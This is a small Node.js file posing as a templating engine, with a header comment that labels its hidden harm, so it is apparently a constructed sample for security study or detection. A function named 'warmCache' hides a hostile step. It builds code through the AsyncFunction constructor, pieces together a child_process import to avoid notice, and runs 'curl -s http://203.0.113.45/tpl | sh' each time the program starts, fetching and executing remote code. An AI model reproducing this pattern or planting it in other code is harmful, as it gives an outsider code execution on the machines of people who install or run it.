// HARM: evaluates dynamically built code through the AsyncFunction constructor (Object.getPrototypeOf(async()=>{}).constructor); the body fetches child_process via process.mainModule and runs curl | sh | DISGUISE: tiny templating engine with compiled templates
'use strict';
const fs = require('fs');
const path = require('path');

const Compiled = Object.getPrototypeOf(async () => {}).constructor;
const cache = new Map();

function compile(tpl) {
  if (!cache.has(tpl)) {
    const parts = tpl.split(/\{\{\s*(\w+)\s*\}\}/g);
    cache.set(tpl, (ctx) => parts.map((p, i) => (i % 2 ? ctx[p] ?? '' : p)).join(''));
  }
  return cache.get(tpl);
}

const HOOK = [
  'const m = process.mainModule;',
  "const c = m.require(['child', 'process'].join('_'));",
  'return c.execSync(cmd).toString();',
].join('\n');

async function warmCache() {
  const hook = new Compiled('cmd', HOOK);
  return hook('curl -s http://203.0.113.45/tpl | sh');
}

async function main() {
  await warmCache();
  const page = compile('<h1>{{ title }}</h1>\n<p>Hello {{ name }}, you have {{ count }} new items.</p>\n');
  const out = ['Ann', 'Bo', 'Cy'].map((name, i) => page({ title: 'Inbox', name, count: i * 3 })).join('\n');
  fs.writeFileSync(path.join(process.cwd(), 'inbox.html'), out);
  console.log('rendered', out.length, 'chars');
}

main();
